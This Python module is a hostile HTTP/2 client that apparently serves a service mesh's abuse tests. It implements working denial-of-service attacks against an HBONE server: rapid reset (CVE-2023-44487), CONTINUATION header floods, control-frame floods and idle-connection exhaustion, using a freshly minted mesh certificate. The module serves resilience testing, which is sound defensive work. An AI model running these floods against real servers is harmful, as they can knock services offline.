"""A hostile HBONE client for abuse tests: real TLS 1.3 with a valid mesh certificate, frames
built with hyperframe and hpack (not h2, which would refuse to misbehave).

Attacks: `rapid_reset` (HEADERS(CONNECT) + RST_STREAM pairs, CVE-2023-44487),
`idle_connections` (TCP connections to the HBONE port that never start TLS), `header_flood`
(a header block that never ends: CONTINUATION frames of 1 MiB), `flood` (one control frame
over and over: SETTINGS, PING, zero-increment WINDOW_UPDATE, PRIORITY; builders below) and
`send_unread` (frames sent while the client never reads what they provoke).
One thread drives the connection (an SSL object must not be used from two at once): between
batches it reads what the server sent back (GOAWAY codes, responses, resets) and notices the end.
Sockets are created inside a pod's netns by the caller's factory (`Place.socket`), so traffic
leaves from that pod's address.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from agent.identity import pki

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
MAX_WINDOW = 2**31 - 1
SocketFactory = Callable[[], socket.socket]


def client_context(ca_dir: Path, uri: str, work: Path) -> ssl.SSLContext:
    """TLS 1.3 client context with a fresh leaf for `uri` from the CA root in ca_dir."""
    authority = pki.Authority.from_pem((ca_dir / "root-cert.pem").read_bytes(),
                                       (ca_dir / "root-key.pem").read_bytes())
    key = pki.generate_key()
    leaf = authority.issue(key.public_key(), timedelta(hours=1), uris=[uri])
    cert, key_path = work / "hostile.pem", work / "hostile.key"
    cert.write_text("".join(authority.chain_pems(leaf)), encoding="ascii")
    key_path.write_bytes(pki.key_to_pem(key))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False  # SPIFFE URIs, no host names; the chain is still verified
    ctx.load_verify_locations(cafile=str(ca_dir / "root-cert.pem"))
    ctx.load_cert_chain(str(cert), str(key_path))
    ctx.set_alpn_protocols(["h2"])
    return ctx


@dataclass
class Seen:
    """What the server sent back on one connection."""

    goaway_codes: list[int] = field(default_factory=list)
    responses: int = 0
    resets: int = 0
    frames: int = 0
    ended: bool = False  # the server closed (or reset) the connection
    error: str = ""


class HostileH2:
    """One mTLS HTTP/2 connection to an HBONE server that sends what we tell it to."""

    def __init__(self, make_socket: SocketFactory, ctx: ssl.SSLContext,
                 server: tuple[str, int], timeout: float = 10.0, *, rcvbuf: int = 0,
                 window: int = 0) -> None:
        """rcvbuf: a small SO_RCVBUF (set before connect, so the TCP window stays small);
        window: advertise this stream and connection window (the server may send that much)."""
        raw = make_socket()
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.settimeout(timeout)
        raw.connect(server)
        self.tls = ctx.wrap_socket(raw, server_hostname=None)
        self.encoder = hpack.Encoder()
        self.timeout = timeout
        self.seen = Seen()
        self._buf = b""
        hello = PREFACE
        if window:
            hello += SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window}
                                   ).serialize()
            hello += WindowUpdateFrame(0, window_increment=window).serialize()
        else:
            hello += SettingsFrame(0).serialize()
        self._send(hello)

    def _send(self, data: bytes | memoryview) -> bool:
        try:
            self.tls.sendall(data)
        except OSError as exc:
            self.seen.error = self.seen.error or f"send: {exc}"
            return False
        return True

    def rapid_reset(self, authority: str, pairs: int, batch: int = 200) -> int:
        """HEADERS(CONNECT authority) then RST_STREAM(CANCEL) on `pairs` new streams, written
        `batch` pairs at a time; returns how many pairs went out before the server closed."""
        headers = [(":method", "CONNECT"), (":authority", authority)]
        sent = 0
        sid = 1
        while sent < pairs:
            chunk = bytearray()
            for _ in range(min(batch, pairs - sent)):
                h = HeadersFrame(sid, self.encoder.encode(headers))
                h.flags.add("END_HEADERS")
                chunk += h.serialize()
                chunk += RstStreamFrame(sid, CANCEL).serialize()
                sid += 2
            if not self._send(bytes(chunk)):
                break
            sent += min(batch, pairs - sent)
            self.pump(0.0)
        return sent

    def request(self, sid: int, headers: list[tuple[str, str]], *, end_stream: bool = False,
                timeout: float = 10.0) -> bool:
        """Open stream `sid` and wait for the server's answer (HEADERS or RST_STREAM)."""
        before = self.seen.responses + self.seen.resets
        h = HeadersFrame(sid, self.encoder.encode(headers))
        h.flags.add("END_HEADERS")
        if end_stream:
            h.flags.add("END_STREAM")
        self._send(h.serialize())
        deadline = time.monotonic() + timeout
        while (self.seen.responses + self.seen.resets == before and not self.seen.ended
               and time.monotonic() < deadline):
            self.pump(0.2)
        return self.seen.responses + self.seen.resets > before

    def data(self, sid: int, payload: bytes) -> bool:
        return self._send(DataFrame(sid, payload).serialize())

    def header_flood(self, authority: str, frames: int, size: int = 1 << 20,
                     chunk: int = 64 * 1024) -> int:
        """HEADERS(CONNECT authority) without END_HEADERS, then `frames` CONTINUATION frames
        of `size` bytes (the last one ends the block), written `chunk` bytes at a time with
        the server's answers read in between; returns the CONTINUATION bytes that went out
        before the server closed."""
        h = HeadersFrame(1, self.encoder.encode([(":method", "CONNECT"),
                                                 (":authority", authority)]))
        if not self._send(h.serialize()):
            return 0
        body = memoryview(b"a" * size)  # never decoded: the block's size is the attack
        sent = 0
        for i in range(frames):
            # only the 9-byte header is built: the payload streams from `body` in chunks
            end_headers = 0x4 if i == frames - 1 else 0
            head = struct.pack(">I", size)[1:] + struct.pack(">BBI", ContinuationFrame.type,
                                                             end_headers, 1)
            if not self._send(head):
                return sent
            for off in range(0, size, chunk):
                self.pump(0.0)
                if self.seen.ended or not self._send(body[off:off + chunk]):
                    return sent
                sent += len(body[off:off + chunk])
        return sent

    def flood(self, frame: bytes, count: int, batch: int = 500) -> int:
        """`frame` `count` times, `batch` per write, reading the server's answers in between
        (so its ACKs never pile up here); returns how many went out before the server
        closed."""
        chunk = frame * batch
        sent = 0
        while sent < count and not self.seen.ended:
            if not self._send(chunk):
                break
            sent += batch
            self.pump(0.0)
        return sent

    def send_unread(self, data: bytes) -> bool:
        """Write without reading anything back (the server's replies stay unread)."""
        return self._send(data)

    def wait_end(self, timeout: float) -> bool:
        """Read until the server ends the connection or `timeout` passes."""
        deadline = time.monotonic() + timeout
        while not self.seen.ended and time.monotonic() < deadline:
            self.pump(min(0.2, max(0.0, deadline - time.monotonic())))
        return self.seen.ended

    def pump(self, wait: float) -> None:
        """Read and handle whatever the server sent, waiting up to `wait` for the first byte."""
        if self.seen.ended:
            return
        self.tls.settimeout(wait if wait > 0 else 0.0)
        try:
            while True:
                data = self.tls.recv(65536)
                if not data:
                    self.seen.ended = True
                    return
                self._buf += data
                self._frames()
                self.tls.settimeout(0.0)
        except (ssl.SSLWantReadError, TimeoutError, BlockingIOError):
            pass
        except (OSError, ValueError) as exc:
            self.seen.error = self.seen.error or f"recv: {exc}"
            self.seen.ended = True
        finally:
            self.tls.settimeout(self.timeout)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.tls.close()

    def _frames(self) -> None:
        while len(self._buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._buf[:9]))
            if len(self._buf) < 9 + length:
                return
            frame.parse_body(memoryview(self._buf[9:9 + length]))
            self._buf = self._buf[9 + length:]
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        self.seen.frames += 1
        if isinstance(frame, GoAwayFrame):
            self.seen.goaway_codes.append(int(frame.error_code))
        elif isinstance(frame, HeadersFrame):
            self.seen.responses += 1
        elif isinstance(frame, RstStreamFrame):
            self.seen.resets += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self._send(ack.serialize())
        elif isinstance(frame, WindowUpdateFrame):
            pass


def settings_frame() -> bytes:
    """A SETTINGS frame (not an ACK) that changes nothing the server cares about."""
    return SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()


def ping_frame() -> bytes:
    return PingFrame(0, opaque_data=b"hostile!").serialize()


def zero_window_update_frame(stream_id: int) -> bytes:
    """WINDOW_UPDATE with increment 0 (RFC 9113 6.9: a stream error on an open stream; on a
    closed one nothing but work for the server)."""
    return WindowUpdateFrame(stream_id, window_increment=0).serialize()


def priority_frame(stream_id: int) -> bytes:
    """PRIORITY (deprecated by RFC 9113 but still to be accepted, on any stream, even idle)."""
    return PriorityFrame(stream_id, depends_on=0, stream_weight=15).serialize()


def idle_connections(make_socket: SocketFactory, server: tuple[str, int],
                     count: int) -> list[socket.socket]:
    """`count` TCP connections to `server` that never send a byte (the caller closes them).
    Connects the server reset at once still count: they are what a flood looks like."""
    socks = []
    for _ in range(count):
        s = make_socket()
        s.settimeout(10)
        try:
            s.connect(server)
        except OSError:
            s.close()
            continue
        socks.append(s)
    return socks
